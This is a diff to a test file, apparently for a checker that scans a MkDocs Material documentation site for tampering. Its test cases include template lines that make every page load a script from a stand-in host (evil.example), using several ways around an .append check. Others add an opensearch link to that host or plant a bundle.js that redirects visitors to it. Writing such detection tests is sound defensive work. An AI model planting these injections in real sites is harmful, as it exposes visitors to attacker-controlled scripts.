@@ -1936,8 +1936,31 @@ CASES |= {
 CASES |= {
     "a template appending a remote script to the settings": (
         replace(TEMPLATE, DRAWER, DRAWER + "{% set _ = config.extra_javascript.append('https://evil.example/x.js') %}"),
-        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: the template calls .append(), which changes the settings or data every "
+        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: the template reaches .append, which changes the settings or data every "
         "later line of the theme reads"),
+    "a template appending through attr()": (
+        replace(TEMPLATE, DRAWER, DRAWER + "{% set _ = (config.extra_javascript|attr('append'))('https://evil.example/x.js') %}"),
+        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: the template reaches .append"),
+    "a template adding with __iadd__": (
+        replace(TEMPLATE, DRAWER, DRAWER + "{% set _ = config.extra_javascript.__iadd__(['https://evil.example/x.js']) %}"),
+        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: the template reaches .__iadd__"),
+    "a template appending through a subscript": (
+        replace(TEMPLATE, DRAWER, DRAWER + "{% set _ = config.extra_javascript['append']('https://evil.example/x.js') %}"),
+        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: the template reaches .append"),
+    "a template's link to a search description on another host": (
+        replace(TEMPLATE, DRAWER, DRAWER + '<link rel="search" type="application/opensearchdescription+xml" '
+                'href="https://evil.example/opensearch.xml" title="x">'),
+        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry a <link> that loads "
+        "'https://evil.example/opensearch.xml' from another host"),
+    "a template's unassigned code point": (
+        replace(TEMPLATE, DRAWER, DRAWER + "<p>Edition \u0378</p>"),
+        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry U+0378, which Unicode"),
+    "docs: an unassigned code point by reference on an ASCII line": (
+        add_line("docs/about.md", "A sign: &#x378;."),
+        f"docs/about.md:{ABOUT_END}: holds U+0378, which Unicode"),
+    "edition.yml: a subtitle ending in a fullwidth question mark": (
+        replace("sources/essay/edition.yml", "subtitle: An Annotated Edition", 'subtitle: "An Annotated Edition\uff1f"'),
+        "sources/essay/edition.yml:4: 'subtitle' ends in '\uff1f', after which"),
     "overrides: a script in place of Material's bundle": (
         write_file("overrides/assets/javascripts/bundle.js", b'location = "https://evil.example/";\n'),
         "overrides/assets/javascripts/bundle.js: a script in overrides/, which would replace Material's or run beside it, "
